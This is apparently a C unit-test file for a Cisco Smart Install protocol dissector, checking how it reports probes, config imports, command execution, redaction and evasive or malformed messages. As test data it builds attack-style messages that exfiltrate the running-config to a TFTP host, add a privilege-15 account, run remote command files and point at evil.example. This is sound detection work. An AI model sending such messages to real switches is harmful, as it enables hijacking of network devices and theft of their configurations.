/* test_smart_install: dissectors/smart_install.c. */
#include "config.h"

#include "tests/dissectors/harness.h"
#include "tests/unit.h"

#include <stdlib.h>

extern const struct dissector dissector_smart_install;

#define VECTOR(title, said)                                                                        \
	(struct vector)                                                                            \
	{                                                                                          \
		title, &dissector_smart_install, true, turns, sizeof(turns) / sizeof(*turns), said \
	}

/* Words of 32 bits below 256. */
#define W(x) "\0\0\0" x

enum { ROOM = 8192 };

/* A message of TYPE whose body is LENGTH bytes: HEAD, then TEXT, then NULs. */
struct message {
	uint8_t bytes[ROOM];
	uint32_t len;
};

static void put_word(struct message *m, uint32_t word)
{
	for (int shift = 24; shift >= 0; shift -= 8)
		m->bytes[m->len++] = (uint8_t)(word >> shift);
}

static void put_text(struct message *m, const char *text, uint32_t room)
{
	memcpy(m->bytes + m->len, text, strlen(text));
	m->len += room;
}

static void message_begin(struct message *m, uint32_t sender, uint32_t type, uint32_t length)
{
	memset(m, 0, sizeof(*m));
	put_word(m, sender);
	put_word(m, sender == 4 ? 0 : 1);
	put_word(m, type);
	put_word(m, length);
}

static char *says_of(const struct message *m)
{
	const struct turn turns[] = {{SIDE_CLIENT, {m->bytes, m->len}}};

	vector_run(&VECTOR("one message", NULL));
	return vector_says(&VECTOR("one message", NULL));
}

static void expect(const struct message *m, const char *said)
{
	char *is = says_of(m);

	ck_assert_str_eq(is, said);
	free(is);
}

START_TEST(a_probe_is_a_hint_and_its_answer_names_the_switch)
{
	static const struct turn turns[] = {
		CLIENT(W("\1") W("\1") W("\4") W("\x8") W("\1") W("\0")),
		SERVER(W("\4") W("\0") W("\3") W("\x8") W("\1") W("\0")),
	};
	vector_run(&VECTOR("a probe",
		"smart_install {\"smart_install\":{\"type\":4,\"name\":\"probe\","
		"\"sender\":\"director\",\"length\":8}}\n"
		"hint smi.probe text=probe number=8\n"
		"smart_install {\"smart_install\":{\"type\":3,\"name\":\"reply\","
		"\"sender\":\"switch\",\"length\":8}}\n"
		"identity of=server vendor=Cisco evidence=smart-install equipment=1\n"));
}
END_TEST

START_TEST(the_shorter_probe_of_scanners_is_known)
{
	static const struct turn turns[] = {
		CLIENT(W("\1") W("\1") W("\3") W("\1") "\0"),
		SERVER(W("\4") W("\0") W("\4") W("\4") W("\1")),
	};
	vector_run(&VECTOR("a scanner",
		"smart_install {\"smart_install\":{\"type\":3,\"name\":\"probe\","
		"\"sender\":\"director\",\"length\":1}}\n"
		"hint smi.probe text=probe number=1\n"
		"smart_install {\"smart_install\":{\"type\":4,\"name\":\"reply\","
		"\"sender\":\"switch\",\"length\":4}}\n"
		"identity of=server vendor=Cisco evidence=smart-install equipment=1\n"));
}
END_TEST

START_TEST(a_changed_startup_configuration_is_an_import)
{
	struct message m;

	message_begin(&m, 1, 3, 0x128);
	put_word(&m, 3);
	put_word(&m, 1);
	put_text(&m, "tftp://192.0.2.9/my.conf", 0x120);
	expect(&m, "smart_install {\"smart_install\":{\"type\":3,"
		   "\"url\":\"tftp://192.0.2.9/my.conf\",\"name\":\"change-config\","
		   "\"sender\":\"director\",\"length\":296}}\n"
		   "action import config element=server object=tftp://192.0.2.9/my.conf"
		   " target=192.0.2.9 outcome=unknown evidence=observed\n");
}
END_TEST

START_TEST(an_image_list_is_an_image)
{
	struct message m;

	message_begin(&m, 1, 2, 0x1c4);
	put_word(&m, 2);
	put_word(&m, 1);
	put_text(&m, "tftp://192.0.2.9/list.txt", 0x1bc);
	expect(&m, "smart_install {\"smart_install\":{\"type\":2,"
		   "\"url\":\"tftp://192.0.2.9/list.txt\",\"name\":\"upgrade-image\","
		   "\"sender\":\"director\",\"length\":452}}\n"
		   "action image image element=server object=tftp://192.0.2.9/list.txt"
		   " target=192.0.2.9 outcome=unknown evidence=observed\n");
}
END_TEST

static void begin_commands(struct message *m)
{
	message_begin(m, 1, 8, 0x408);
	put_word(m, 0x00010014);
	put_word(m, 1);
	put_word(m, 0);
	put_word(m, 0xfc994737);
	put_word(m, 0x86600000);
	put_word(m, 0x000303f4);
}

START_TEST(each_command_slot_is_an_action_of_its_own)
{
	struct message m;

	begin_commands(&m);
	put_text(&m, "copy system:running-config flash:/c.text", 336);
	put_text(&m, "copy flash:/c.text tftp://192.0.2.9/c.conf", 336);
	put_text(&m, "", 336);
	char *said = says_of(&m);
	ck_assert_ptr_nonnull(
		strstr(said, "\"commands\":[\"copy system:running-config flash:/c.text\","
			     "\"copy flash:/c.text tftp://192.0.2.9/c.conf\"]"));
	ck_assert_ptr_nonnull(
		strstr(said, "action export config element=server "
			     "object=copy flash:/c.text tftp://192.0.2.9/c.conf target=192.0.2.9"));
	free(said);
}
END_TEST

START_TEST(a_secret_in_a_command_is_redacted)
{
	struct message m;

	begin_commands(&m);
	put_text(&m, "username eve privilege 15 password 0 Evil1234", 336);
	put_text(&m, "", 336);
	put_text(&m, "", 336);
	char *said = says_of(&m);
	ck_assert_ptr_nonnull(strstr(said, "action change account element=server"));
	ck_assert_ptr_null(
		strstr(strstr(said, "{"), "\"username eve privilege 15 password 0 Evil1234"));
	free(said);
}
END_TEST

START_TEST(a_file_of_commands_is_run)
{
	struct message m;

	message_begin(&m, 2, 5, 0x210);
	put_text(&m, "", 0x110);
	put_text(&m, "tftp://192.0.2.9/run.txt", 0x100);
	expect(&m, "smart_install {\"smart_install\":{\"type\":5,"
		   "\"url\":\"tftp://192.0.2.9/run.txt\",\"name\":\"execute\","
		   "\"sender\":\"director\",\"length\":528}}\n"
		   "action exec config element=server object=tftp://192.0.2.9/run.txt"
		   " target=192.0.2.9 outcome=unknown evidence=observed\n");
}
END_TEST

START_TEST(a_password_in_a_url_is_not_shown)
{
	struct message m;

	message_begin(&m, 1, 3, 0x128);
	put_text(&m, "ftp://eve:Evil1234@192.0.2.9/my.conf", 0x128);
	char *said = says_of(&m);
	ck_assert_ptr_nonnull(strstr(said, "\"url\":\"ftp://eve:redacted:"));
	ck_assert_ptr_nonnull(strstr(said, "target=192.0.2.9"));
	free(said);
}
END_TEST

/* malformed: 0x200 announced, 0x30 sent, and the text in it is told all the same */
START_TEST(a_length_that_promises_too_much_is_told_at_the_end)
{
	struct message m;

	message_begin(&m, 1, 3, 0x200);
	put_text(&m, "tftp://192.0.2.9/x", 0x30);
	const struct turn turns[] = {{SIDE_CLIENT, {m.bytes, m.len}}};
	harness_server_port(4786);
	char *said = vector_says(&VECTOR("short body", NULL));
	ck_assert_ptr_nonnull(strstr(said, "anomaly smart_install.bad_length\n"));
	ck_assert_ptr_nonnull(strstr(said, "hint smi.malformed text=change-config number=512\n"));
	ck_assert_ptr_nonnull(strstr(said, "action import config element=server "
					   "object=tftp://192.0.2.9/x"));
	free(said);
}
END_TEST

/* malformed: no real message is longer than 4096 bytes */
START_TEST(an_impossible_length_is_told_and_ends_the_reading)
{
	struct message m;

	message_begin(&m, 1, 7, 0x7fffffff);
	put_text(&m, "", 5000);
	char *said = says_of(&m);
	ck_assert_ptr_nonnull(strstr(said, "hint smi.malformed text=other number=2147483647\n"));
	ck_assert_ptr_null(strstr(strstr(said, "smi.malformed") + 1, "smi.malformed"));
	free(said);
}
END_TEST

/* malformed: what follows a whole message is no header */
START_TEST(rubbish_behind_a_message_is_an_anomaly)
{
	static const struct turn turns[] = {
		CLIENT(W("\1") W("\1") W("\4") W("\x8") W("\1") W("\0") "GET / HTTP/1.1\r\n\r\n"),
	};
	vector_run(&VECTOR("rubbish",
		"smart_install {\"smart_install\":{\"type\":4,\"name\":\"probe\","
		"\"sender\":\"director\",\"length\":8}}\n"
		"hint smi.probe text=probe number=8\n"
		"anomaly smart_install.bad_header\n"));
}
END_TEST

/* evasive: two messages in one segment, the second one does the harm */
START_TEST(messages_in_one_segment_are_two)
{
	struct message m;

	message_begin(&m, 1, 4, 8);
	put_word(&m, 1);
	put_word(&m, 0);
	const uint32_t first = m.len;
	put_word(&m, 1);
	put_word(&m, 1);
	put_word(&m, 3);
	put_word(&m, 0x128);
	put_text(&m, "tftp://192.0.2.9/x", 0x128);
	ck_assert_uint_gt(m.len, first);
	char *said = says_of(&m);
	ck_assert_ptr_nonnull(strstr(said, "hint smi.probe"));
	ck_assert_ptr_nonnull(strstr(said, "action import config"));
	free(said);
}
END_TEST

/* evasive: the URL does not stand where it should, and its host is a name */
START_TEST(a_url_is_found_wherever_it_stands)
{
	struct message m;

	message_begin(&m, 1, 3, 0x128);
	put_text(&m, "\x01://\x02", 9);
	put_text(&m, "12tftp://evil.example/x", 0x128 - 9);
	char *said = says_of(&m);
	ck_assert_ptr_nonnull(strstr(said, "\"url\":\"tftp://evil.example/x\""));
	ck_assert_ptr_null(strstr(said, "target="));
	free(said);
}
END_TEST

/* evasive: more commands than there are slots */
START_TEST(commands_are_capped)
{
	struct message m;

	message_begin(&m, 1, 8, 0x1000);
	for (unsigned i = 0; i < 256; i++)
		put_text(&m, "reload", 16);
	char *said = says_of(&m);
	unsigned actions = 0;
	for (const char *at = said; (at = strstr(at, "action reboot")); at++)
		actions++;
	ck_assert_uint_eq(actions, 8);
	free(said);
}
END_TEST

static enum probe probe_of(const char *bytes, uint32_t len, uint16_t dport)
{
	struct probe_input in = {.data = span_of(bytes, len), .dport = dport, .stream = true};
	return dissector_smart_install.probe(&in);
}

START_TEST(known_messages_are_known_on_any_port)
{
	ck_assert_int_eq(probe_of(W("\1") W("\1") W("\4") W("\x8"), 16, 9), PROBE_SURE);
	ck_assert_int_eq(probe_of(W("\1") W("\1") W("\3") "\0\0\1\x28", 16, 9), PROBE_SURE);
	ck_assert_int_eq(probe_of(W("\2") W("\1") W("\5") "\0\0\2\x10", 16, 9), PROBE_SURE);
	ck_assert_int_eq(probe_of(W("\1") W("\1") W("\7") "\0\1\0\0", 16, 9), PROBE_NO);
	ck_assert_int_eq(probe_of(W("\1") W("\1") W("\7") "\0\1\0\0", 16, 4786), PROBE_SURE);
	ck_assert_int_eq(probe_of(W("\1") W("\1"), 8, 9), PROBE_MORE);
	ck_assert_int_eq(probe_of("\x80\0\0\x28", 4, 4786), PROBE_NO);
	ck_assert_int_eq(probe_of("GET / HTTP/1.1\r\n\r\n", 18, 4786), PROBE_NO);
}
END_TEST

int main(void)
{
	TCase *t = tcase_create("smart_install");

	tcase_set_timeout(t, 60);
	tcase_add_test(t, a_probe_is_a_hint_and_its_answer_names_the_switch);
	tcase_add_test(t, the_shorter_probe_of_scanners_is_known);
	tcase_add_test(t, a_changed_startup_configuration_is_an_import);
	tcase_add_test(t, an_image_list_is_an_image);
	tcase_add_test(t, each_command_slot_is_an_action_of_its_own);
	tcase_add_test(t, a_secret_in_a_command_is_redacted);
	tcase_add_test(t, a_file_of_commands_is_run);
	tcase_add_test(t, a_password_in_a_url_is_not_shown);
	tcase_add_test(t, a_length_that_promises_too_much_is_told_at_the_end);
	tcase_add_test(t, an_impossible_length_is_told_and_ends_the_reading);
	tcase_add_test(t, rubbish_behind_a_message_is_an_anomaly);
	tcase_add_test(t, messages_in_one_segment_are_two);
	tcase_add_test(t, a_url_is_found_wherever_it_stands);
	tcase_add_test(t, commands_are_capped);
	tcase_add_test(t, known_messages_are_known_on_any_port);
	return unit_run(t, "smart_install");
}
